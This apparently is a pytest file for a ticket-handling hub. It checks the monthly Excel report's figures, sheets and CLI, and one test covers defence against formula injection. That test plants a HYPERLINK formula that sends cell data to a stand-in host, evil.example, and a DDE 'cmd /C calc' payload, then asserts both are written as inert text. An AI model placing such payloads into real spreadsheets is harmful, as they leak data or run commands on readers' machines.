"""The monthly report from known tickets, read back with openpyxl: the figures the data implies,
malicious ratings left out, the second rating of a reopened ticket counting; both databases."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Callable
from datetime import datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import sqlalchemy as sa

from hub.app.config import load_settings
from hub.cli import main
from hub.core.clock import SHANGHAI
from hub.core.vocab import CallbackMethod, CallbackStatus, TicketState
from hub.reports.monthly import build_monthly_report
from hub.reports.monthly_xlsx import (
    BAD_HEADERS,
    BAD_SHEET,
    LEDGER_HEADERS,
    LEDGER_SHEET,
    NOTES_SHEET,
    SUMMARY_HEADERS,
    SUMMARY_SHEET,
    write_workbook,
)
from hub.store.db import Database
from hub.store.models import CallbackSurvey, Department, Enterprise, Rating, Ticket
from tests.ticket_factory import make_org, make_ticket

NOW = datetime(2026, 12, 1, 9, tzinfo=SHANGHAI)


def at(month: int, day: int, hour: int = 10) -> datetime:
    return datetime(2026, month, day, hour, tzinfo=SHANGHAI)


async def seed(db: Database) -> None:
    """November 2026 at FGW, SJJ and without a department (see the test for what it implies)."""
    org = await make_org(db, at(1, 1))
    t = make_ticket
    # FGW ----------------------------------------------------------------------------------
    await t(
        db,
        org,
        number="GD202611020001",
        received_at=at(11, 2),
        deadline_at=at(11, 10, 0),
        state=TicketState.CLOSED,
        resolutions=[at(11, 5)],
        ratings=[(5, at(11, 5, 12), False)],
        closed=(at(11, 5, 12), "rated"),
    )
    # Rated 2, reopened, resolved again and rated 4: the 4 counts, the 2 is a rectified bad one.
    t2 = await t(
        db,
        org,
        number="GD202611030001",
        received_at=at(11, 3),
        deadline_at=at(11, 11, 0),
        state=TicketState.CLOSED,
        resolutions=[at(11, 6), at(11, 12)],
        ratings=[(2, at(11, 6, 12), False), (4, at(11, 12, 12), False)],
        closed=(at(11, 12, 12), "rated"),
    )
    # Resolved late; its 1 is flagged malicious: out of the levels and of 好评率.
    await t(
        db,
        org,
        number="GD202611040001",
        received_at=at(11, 4),
        deadline_at=at(11, 12, 0),
        state=TicketState.RESOLVED,
        resolutions=[at(11, 13)],
        ratings=[(1, at(11, 13, 12), True)],
        enterprise=1,
    )
    # Extended once, still open past the new deadline at the end of the month.
    await t(
        db,
        org,
        number="GD202611050001",
        received_at=at(11, 5),
        deadline_at=at(11, 20, 0),
        state=TicketState.IN_PROGRESS,
        extensions=[at(11, 12)],
    )
    # Resolved in October: closed without a rating in November; surveyed in November.
    t5 = await t(
        db,
        org,
        number="GD202610200001",
        received_at=at(10, 20),
        deadline_at=at(10, 28, 0),
        state=TicketState.CLOSED,
        resolutions=[at(10, 26)],
        closed=(at(11, 6), "no_rating"),
    )
    # Resolved and closed in October: last month's population only, not surveyed.
    await t(
        db,
        org,
        number="GD202610210001",
        received_at=at(10, 21),
        deadline_at=at(10, 29, 0),
        state=TicketState.CLOSED,
        resolutions=[at(10, 23)],
        ratings=[(5, at(10, 23, 12), False)],
        closed=(at(10, 24), "rated"),
    )
    # SJJ ----------------------------------------------------------------------------------
    sjj: dict[str, Any] = {"department": org.sjj, "handler": org.sjj_handler}
    await t(
        db,
        org,
        number="GD202611090001",
        received_at=at(11, 9),
        deadline_at=at(11, 17, 0),
        state=TicketState.CLOSED,
        resolutions=[at(11, 10)],
        ratings=[(3, at(11, 10, 12), False)],
        closed=(at(11, 10, 12), "rated"),
        **sjj,
    )
    t8 = await t(
        db,
        org,
        number="GD202611100001",
        received_at=at(11, 10),
        deadline_at=at(11, 18, 0),
        state=TicketState.REOPENED,
        resolutions=[at(11, 11)],
        ratings=[(1, at(11, 11, 12), False)],
        **sjj,
    )
    t9 = await t(
        db,
        org,
        number="GD202611200001",
        received_at=at(11, 20),
        deadline_at=at(11, 27, 0),
        state=TicketState.REOPENED,
        resolutions=[at(11, 26)],
        ratings=[(2, at(11, 26, 12), False)],
        **sjj,
    )
    # December: not in November's figures.
    await t(
        db, org, number="GD202612010001", received_at=at(12, 1, 8), deadline_at=at(12, 9, 0), **sjj
    )
    # Without a department ----------------------------------------------------------------
    await t(
        db,
        org,
        number="GD202611250001",
        received_at=at(11, 25),
        deadline_at=at(12, 3, 0),
        state=TicketState.NEW,
        department=None,
        handler=None,
    )
    async with db.write() as s:
        for tid, due in ((t2, at(11, 27, 0)), (t8, at(11, 20, 0)), (t9, at(12, 17, 0))):
            row = await s.get(Ticket, tid)
            assert row is not None
            row.rectify_due_at = due
        s.add(
            CallbackSurvey(
                month="2026-10",
                ticket_id=t5,
                method=CallbackMethod.PHONE,
                status=CallbackStatus.ANSWERED,
                score=4,
                created_at=at(11, 2),
            )
        )


def sheet_rows(ws: Any) -> list[list[Any]]:
    return [list(r) for r in ws.iter_rows(values_only=True)]


def figures(rows: list[list[Any]], department: str) -> dict[str, Any]:
    [row] = [r for r in rows[1:] if r[0] == department]
    return dict(zip(SUMMARY_HEADERS, row, strict=True))


async def test_monthly_report_figures_read_back_from_the_workbook(
    any_db: Database, tmp_path: Path
) -> None:
    await seed(any_db)
    report = await build_monthly_report(any_db, "2026-11", NOW)
    path = write_workbook(report, tmp_path / "2026-11.xlsx")
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == [
        SUMMARY_SHEET,
        BAD_SHEET,
        LEDGER_SHEET,
        "走访情况",
        "重点企业联系",
        NOTES_SHEET,
    ]
    summary = sheet_rows(wb[SUMMARY_SHEET])
    assert summary[0] == list(SUMMARY_HEADERS)
    assert [r[0] for r in summary[1:]] == [
        "市发展改革委",
        "市市场监管局",
        "市营商环境建设办公室",
        "未分派",
        "合计",
    ]
    fgw = figures(summary, "市发展改革委")
    assert fgw == {
        "部门": "市发展改革委",
        "受理": 4,
        "办结": 3,
        "按时办结": 2,
        "超期办结": 1,
        "超期未办结": 1,
        "延期": 1,
        "非常满意(5)": 1,
        "满意(4)": 1,
        "基本满意(3)": 0,
        "不满意(2)": 0,
        "非常不满意(1)": 0,
        "有效评价": 2,
        "好评率": 1.0,
        "恶意差评": 1,
        "未评价销号": 1,
        "差评": 1,
        "已整改": 1,
        "整改中": 0,
        "逾期未整改": 0,
        "上月办结": 2,
        "已回访": 1,
        "回访覆盖率": 0.5,
    }
    sjj = figures(summary, "市市场监管局")
    assert (sjj["受理"], sjj["办结"], sjj["按时办结"], sjj["超期未办结"]) == (3, 3, 3, 0)
    assert [sjj[h] for h in SUMMARY_HEADERS[7:13]] == [0, 0, 1, 1, 1, 3]
    assert sjj["好评率"] == pytest.approx(1 / 3)
    assert (sjj["差评"], sjj["已整改"], sjj["整改中"], sjj["逾期未整改"]) == (2, 0, 1, 1)
    assert sjj["回访覆盖率"] == "—"  # nothing resolved there in October
    none = figures(summary, "未分派")
    assert (none["受理"], none["办结"], none["超期未办结"], none["好评率"]) == (1, 0, 0, "—")
    total = figures(summary, "合计")
    assert (total["受理"], total["办结"], total["按时办结"], total["超期办结"]) == (8, 6, 5, 1)
    assert [total[h] for h in SUMMARY_HEADERS[7:13]] == [1, 1, 1, 1, 1, 5]
    assert total["好评率"] == pytest.approx(0.6)  # 5, 4, 3 of five counted; the malicious 1 out
    assert (total["恶意差评"], total["未评价销号"], total["差评"]) == (1, 1, 3)
    rate_cell = wb[SUMMARY_SHEET].cell(row=len(summary), column=SUMMARY_HEADERS.index("好评率") + 1)
    assert rate_cell.number_format == "0.0%"

    bad = sheet_rows(wb[BAD_SHEET])
    assert [(r[0], r[3], r[6], r[8]) for r in bad[1:]] == [
        ("GD202611030001", 2, "已整改", 4),
        ("GD202611100001", 1, "逾期未整改", None),
        ("GD202611200001", 2, "整改中", None),
    ]

    ledger = sheet_rows(wb[LEDGER_SHEET])
    assert ledger[0] == list(LEDGER_HEADERS)
    by_number = {r[0]: dict(zip(LEDGER_HEADERS, r, strict=True)) for r in ledger[1:]}
    assert set(by_number) == {
        "GD202611020001",
        "GD202611030001",
        "GD202611040001",
        "GD202611050001",
        "GD202610200001",
        "GD202611090001",
        "GD202611100001",
        "GD202611200001",
        "GD202611250001",
    }
    first = by_number["GD202611020001"]
    assert first["企业名称"] == "甲机械有限公司"
    assert first["联系电话"] == "+86139****9001"
    assert (first["承办部门"], first["承办人"], first["是否按时"]) == (
        "市发展改革委",
        "张承办",
        "是",
    )
    assert (first["评价"], first["销号方式"]) == ("5 非常满意", "好评办结")
    assert first["受理时间"] == "2026-11-02T10:00:00+08:00"
    assert by_number["GD202611030001"]["评价"] == "4 满意"
    assert by_number["GD202611040001"]["是否按时"] == "否"
    assert by_number["GD202611040001"]["恶意差评"] == "是"
    assert by_number["GD202611050001"]["是否按时"] == "未办结"
    assert by_number["GD202611050001"]["延期次数"] == 1
    assert by_number["GD202610200001"]["销号方式"] == "未评价销号"
    assert by_number["GD202610200001"]["回访"] == "已回访（满意）"
    assert all("****" in r["联系电话"] for r in by_number.values())

    data = report.as_dict()
    assert data["month"] == "2026-11"
    assert data["total"]["good_rate"] == 0.6  # type: ignore[index]


def test_report_monthly_cli_writes_the_workbook_and_prints_json(
    write_config: Callable[..., Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = write_config()

    async def run() -> None:
        db = Database.open(load_settings(config).database_url)
        try:
            await seed(db)
        finally:
            await db.aclose()

    asyncio.run(run())
    out = tmp_path / "report.xlsx"
    capsys.readouterr()
    args = ["--config", str(config), "report", "monthly", "--month", "2026-11"]
    assert main([*args, "--out", str(out), "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert data["out"] == str(out)
    assert [d["department"] for d in data["departments"]][:2] == ["市发展改革委", "市市场监管局"]
    assert (data["total"]["received"], data["total"]["resolved"]) == (8, 6)
    assert data["total"]["ratings"] == {"5": 1, "4": 1, "3": 1, "2": 1, "1": 1}
    assert openpyxl.load_workbook(out).sheetnames[0] == "汇总"
    assert main([*args, "--out", str(tmp_path / "plain.xlsx")]) == 0
    assert "受理 8 件，办结 6 件（按时 5），好评率 60.0%" in capsys.readouterr().out
    assert main(args) == 2  # neither --out nor --json
    assert main([*args[:-1], "2026-13", "--json"]) == 2
    assert main([*args, "--out", str(tmp_path / "report.csv")]) == 2


async def test_text_that_excel_would_evaluate_is_written_as_text(
    any_db: Database, tmp_path: Path
) -> None:
    """An enterprise name or a rating comment is anyone's text: it must not become a formula."""
    await seed(any_db)
    link = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    async with any_db.write() as session:
        await session.execute(sa.update(Enterprise).values(name=link + "\x07"))
        await session.execute(sa.update(Rating).values(comment="@SUM(1+1)*cmd|' /C calc'!A0"))
        await session.execute(
            sa.update(Department).where(Department.code == "FGW").values(name="-2+3")
        )
    report = await build_monthly_report(any_db, "2026-11", NOW)

    wb = openpyxl.load_workbook(write_workbook(report, tmp_path / "2026-11.xlsx"))

    cells = [cell for ws in wb for row in ws.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    ledger = sheet_rows(wb[LEDGER_SHEET])
    column = {header: index for index, header in enumerate(LEDGER_HEADERS)}
    # a leading ' (OWASP): Excel neither evaluates the text nor does once it is edited
    assert {r[column["企业名称"]] for r in ledger[1:]} == {"'" + link}  # \x07 dropped
    assert {r[column["承办部门"]] for r in ledger[1:]} >= {"'-2+3"}
    bad = sheet_rows(wb[BAD_SHEET])
    assert {r[BAD_HEADERS.index("评价内容")] for r in bad[1:]} == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
    # numbers stay numbers: counts and rates are still numeric cells
    summary = sheet_rows(wb[SUMMARY_SHEET])
    assert figures(summary, "'-2+3")["受理"] == 4
    assert all(isinstance(value, int) for value in summary[-1][1:13])
    # a masked phone is no formula: shown as it is
    assert {r[column["联系电话"]] for r in ledger[1:]} == {"+86139****9001", "+86139****9002"}


def test_ledger_headers_match_the_row_fields() -> None:
    from hub.reports.monthly import LedgerRow

    assert len(LEDGER_HEADERS) == len(LedgerRow.__dataclass_fields__)
